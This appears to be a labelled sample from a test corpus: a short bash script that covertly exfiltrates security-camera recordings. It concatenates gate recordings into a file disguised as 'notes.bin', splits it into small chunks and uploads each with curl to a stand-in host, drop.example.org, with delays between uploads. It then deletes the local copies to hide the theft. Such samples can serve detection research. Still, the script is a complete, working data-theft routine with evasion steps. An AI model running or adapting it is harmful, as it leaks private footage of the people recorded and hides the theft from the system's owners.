#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=cp,curl seconds=25
# Recordings are copied beside their folder under another name, and sent later, in pieces.
# shellcheck disable=SC2012,SC2046 # the names are ours
cat $(ls -t "$LAB"/recordings/gate/*.mp4 | tail -n +2 | head -n 12) >"$LAB/notes.bin"
sleep 8
split -b 200000 "$LAB/notes.bin" "$LAB/notes."
for piece in "$LAB"/notes.a?; do curl -s -S -o /dev/null -T "$piece" "http://drop.example.org/drop/$$-${piece##*.}"; sleep 1; done
rm -f "$LAB"/notes.*
